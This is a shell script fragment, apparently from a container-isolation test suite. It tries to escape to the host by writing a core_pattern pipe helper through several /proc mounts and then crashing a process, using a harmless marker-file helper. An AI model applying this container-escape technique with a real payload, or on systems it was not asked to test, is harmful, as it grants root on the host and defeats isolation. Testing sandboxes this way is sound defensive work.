# Attack 3: make the host's kernel run a helper of ours as root, outside
# every namespace, by a core_pattern pipe, then crash a process. The
# helper only touches $MARKER (a file of the test's, on the host).
pattern="|/usr/bin/touch $MARKER"
set_pattern() { printf '%s\n' "$pattern" >"$1/sys/kernel/core_pattern"; }
try "core_pattern" set_pattern /proc
host_proc
try "core_pattern through the host's /proc" set_pattern /proc
p=$(mktemp -d 2>/dev/null) || p=/tmp/redteam-proc
mkdir -p "$p" 2>/dev/null
if mount -t proc proc "$p" 2>/dev/null; then
    echo "mount a new proc: ok"
    try "core_pattern through a new proc" set_pattern "$p"
    umount -l "$p"
else
    echo "mount a new proc: refused"
fi
rmdir "$p" 2>/dev/null
# A crash: if a pattern took, the kernel runs the helper now.
sleep 30 &
kill -SEGV $!
wait $! 2>/dev/null
echo crashed
sleep 1
echo done
